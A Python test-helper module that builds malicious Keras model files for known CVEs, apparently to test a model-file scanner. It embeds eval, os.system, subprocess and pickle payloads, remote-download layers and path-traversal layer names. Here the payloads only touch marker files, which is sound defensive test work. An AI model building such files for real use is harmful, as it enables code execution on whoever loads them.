"""Keras configurations that carry code, or name what lies outside of Keras."""

from __future__ import annotations

import copy
import io
import json
import zipfile
from typing import TYPE_CHECKING, Any

from tests.helpers.attacks.table import CODE, FOREIGN, NEEDS_CODE, TRAVERSAL, attack

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.helpers.attacks.table import Site

UNSAFE = "keras"
"""Keras 3 with safe_mode=False."""
METADATA = "safety.keras_metadata_code"
LEGACY = "tf_keras"
"""tf-keras, which asks nobody for HDF5."""


def archive(path: Path, site: Site, config: dict[str, Any], **members: bytes) -> None:
    """Write a `.keras` with the good model's weights and another configuration."""
    with zipfile.ZipFile(io.BytesIO(site.good("good.keras"))) as good:
        parts = {name: good.read(name) for name in good.namelist()}
    parts["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as file:
        for name, data in {**parts, **members}.items():
            file.writestr(name, data)


def good_config(site: Site) -> dict[str, Any]:
    """The good model's configuration: a Sequential of an input and a Dense layer."""
    with zipfile.ZipFile(io.BytesIO(site.good("good.keras"))) as good:
        config: dict[str, Any] = json.loads(good.read("config.json"))
    return config


def in_hdf5(path: Path, site: Site, config: dict[str, Any]) -> None:
    """Write an `.h5` with the good model's weights and another configuration."""
    import h5py

    path.write_bytes(site.good("good.h5"))
    with h5py.File(path, "r+") as file:
        file.attrs["model_config"] = json.dumps(config)


def layer(module: str, class_name: str, /, **config: Any) -> dict[str, Any]:
    """A layer's configuration."""
    named = {"name": "layer", **config}
    return {"module": module, "class_name": class_name, "config": named, "registered_name": None}


def with_layer(site: Site, added: dict[str, Any]) -> dict[str, Any]:
    """The good model with one more layer, after its input."""
    config = copy.deepcopy(good_config(site))
    config["config"]["layers"].insert(1, added)
    return config


def touching(marker: str) -> Callable[[Any], Any]:
    """A function of one tensor that makes a file when it is called."""
    made: Callable[[Any], Any] = eval(  # noqa: S307 - our own text
        f"lambda x: (__import__('pathlib').Path({marker!r}).touch(), x)[1]"
    )
    return made


def lambda_model(keras: Any, marker: str, *, nested: bool = False, timed: bool = False) -> Any:
    """A model with a Lambda layer: at the top, in a model in it, or in a wrapper."""
    shape = (4, 4) if timed else (4,)
    made = keras.layers.Lambda(touching(marker), name="code")
    if timed:
        made = keras.layers.TimeDistributed(made)
    if nested:
        inner = keras.Sequential([keras.layers.Input(shape), made])
        made = keras.Sequential([keras.layers.Input(shape), inner])
    return keras.Sequential([keras.layers.Input(shape), made, keras.layers.Dense(3)])


def _lambdas() -> None:
    for name, ending, options, library in (
        ("lambda", ".keras", {}, UNSAFE),
        ("lambda_nested", ".keras", {"nested": True}, UNSAFE),
        ("lambda_time_distributed", ".keras", {"timed": True}, UNSAFE),
        ("lambda_h5", ".h5", {}, LEGACY),
        ("lambda_hdf5", ".hdf5", {}, LEGACY),
        ("lambda_nested_h5", ".h5", {"nested": True}, LEGACY),
    ):
        cve = "CVE-2024-3660" if ending == ".keras" else "CVE-2025-9905"

        def write(
            site: Site,
            path: Path,
            name: str = name,
            options: dict[str, bool] = options,
            library: str = library,
        ) -> None:
            import importlib

            keras = importlib.import_module(library)
            model = lambda_model(keras, site.marker(name), **options)
            target = path.with_suffix(".h5") if path.suffix == ".hdf5" else path
            model.save(target)
            target.rename(path)

        attack(name, ending, NEEDS_CODE, CODE, cve=cve, oracle=library)(write)


_lambdas()


@attack("lambda_keras_metadata", "", METADATA, CODE, cve="CVE-2024-3660", oracle=LEGACY)
def lambda_keras_metadata(site: Site, path: Path) -> None:
    """A SavedModel of Keras 2 whose `keras_metadata.pb` holds the code: nothing else reads it."""
    import tf_keras

    lambda_model(tf_keras, site.marker("lambda_keras_metadata")).save(path, save_format="tf")


def calls(site: Site, module: str, name: str, args: list[Any], **kwargs: Any) -> dict[str, Any]:
    """A Functional model one of whose layers is a function that Keras calls as it loads."""
    config = good_config(site)
    dense = copy.deepcopy(config["config"]["layers"][1])
    given = copy.deepcopy(config["config"]["layers"][0])
    tensor = {
        "class_name": "__keras_tensor__",
        "config": {"shape": [None, 4], "dtype": "float32", "keras_history": ["given", 0, 0]},
    }
    given["config"]["name"] = given["name"] = "given"
    given["inbound_nodes"] = []
    dense["name"] = "dense"
    dense["inbound_nodes"] = [{"args": [tensor], "kwargs": {}}]
    function = {"module": module, "class_name": "function", "config": name}
    function |= {"registered_name": "function", "name": "called"}
    function["inbound_nodes"] = [{"args": args, "kwargs": kwargs}]
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "registered_name": "Functional",
        "config": {
            "name": "model",
            "trainable": True,
            "layers": [given, function, dense],
            "input_layers": [["given", 0, 0]],
            "output_layers": [["dense", 0, 0]],
        },
        "build_config": {"input_shape": None},
        "compile_config": {},
    }


def _functions() -> None:
    for name, cve, function, arguments in (
        ("function_popen", "CVE-2025-1550", ("subprocess", "Popen"), "touch"),
        ("function_system", "CVE-2025-1550", ("os", "system"), "shell"),
        ("function_eval", "CVE-2025-1550", ("builtins", "eval"), "python"),
        ("function_get_file", "CVE-2025-8747", ("keras.utils", "get_file"), "url"),
        (
            "function_unsafe_deserialization",
            "CVE-2025-9906",
            ("keras.config", "enable_unsafe_deserialization"),
            "",
        ),
        ("function_load_model", "CVE-2025-8747", ("keras.models", "load_model"), "path"),
    ):

        def write(
            site: Site,
            path: Path,
            name: str = name,
            function: tuple[str, str] = function,
            arguments: str = arguments,
        ) -> None:
            marker = site.marker(name)
            args: list[Any] = {
                "touch": [["touch", marker]],
                "shell": [f"touch {marker}"],
                "python": [f"__import__('pathlib').Path({marker!r}).touch()"],
                "url": ["got", site.url(name)],
                "path": [str(site.home / "attacks" / "lambda" / "model.keras")],
            }.get(arguments, [])
            archive(path, site, calls(site, *function, args))

        attack(name, ".keras", CODE, cve=cve, oracle=UNSAFE)(write)


_functions()


@attack("function_activation", ".h5", CODE, cve="CVE-2025-1550", oracle=UNSAFE)
def function_activation(site: Site, path: Path) -> None:
    """An activation that is any function of any module."""
    config = good_config(site)
    function = {"module": "os", "class_name": "function", "config": "system"}
    config["config"]["layers"][1]["config"]["activation"] = {
        **function,
        "registered_name": "function",
    }
    in_hdf5(path, site, config)


@attack("lambda_get_file", ".keras", CODE, NEEDS_CODE, cve="CVE-2025-8747", oracle=UNSAFE)
def lambda_get_file(site: Site, path: Path) -> None:
    """A Lambda layer whose function is a downloader of Keras's own."""
    function = {"module": "keras.utils", "class_name": "function", "config": "get_file"}
    added = layer(
        "keras.layers",
        "Lambda",
        function={**function, "registered_name": "function"},
        output_shape=[4],
        arguments={"origin": site.url("lambda_get_file"), "cache_dir": str(site.home / "markers")},
    )
    archive(path, site, with_layer(site, added))


@attack("torch_module_wrapper", ".keras", CODE, cve="CVE-2025-49655", oracle=UNSAFE)
def torch_module_wrapper(site: Site, path: Path) -> None:
    """A pickle in a configuration."""
    added = layer(
        "keras.layers", "TorchModuleWrapper", module="gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU"
    )
    archive(path, site, with_layer(site, added))


def _vocabularies() -> None:
    for name, class_name, remote, ending in (
        ("vocabulary_path", "StringLookup", False, ".keras"),
        ("vocabulary_url", "StringLookup", True, ".keras"),
        ("vocabulary_integers", "IntegerLookup", False, ".keras"),
        ("vocabulary_path_h5", "StringLookup", False, ".h5"),
    ):

        def write(
            site: Site,
            path: Path,
            name: str = name,
            class_name: str = class_name,
            remote: bool = remote,
        ) -> None:
            where = site.url(name) if remote else site.canary
            config = with_layer(site, layer("keras.layers", class_name, vocabulary=where))
            if path.suffix == ".h5":
                in_hdf5(path, site, config)
            else:
                archive(path, site, config)

        attack(name, ending, FOREIGN, CODE, cve="CVE-2025-12058", oracle=UNSAFE)(write)


_vocabularies()


@attack("tfsm_layer", ".keras", FOREIGN, CODE, cve="CVE-2026-1462", oracle=UNSAFE)
def tfsm_layer(site: Site, path: Path) -> None:
    """A layer that loads another SavedModel, which writes a file as it is loaded."""
    from tests.helpers.attacks.saved_models import writes_as_it_loads

    other = site.home / "good" / "other_model"
    writes_as_it_loads(other, site.marker("tfsm_layer"))
    added = layer("keras.layers", "TFSMLayer", filepath=str(other), call_endpoint="serving_default")
    archive(path, site, with_layer(site, added))


def _names() -> None:
    for name, layer_name, ending in (
        ("name_climbs", "../../markers/name_climbs", ".keras"),
        ("name_absolute", "/tmp/name_absolute", ".keras"),  # noqa: S108 - the attack's
        ("name_climbs_h5", "../../markers/name_climbs_h5", ".h5"),
    ):

        def write(site: Site, path: Path, layer_name: str = layer_name) -> None:
            config = good_config(site)
            config["config"]["layers"][1]["config"]["name"] = layer_name
            if path.suffix == ".h5":
                in_hdf5(path, site, config)
            else:
                archive(path, site, config)

        attack(name, ending, TRAVERSAL, cve="CVE-2026-12479", oracle=UNSAFE)(write)


_names()
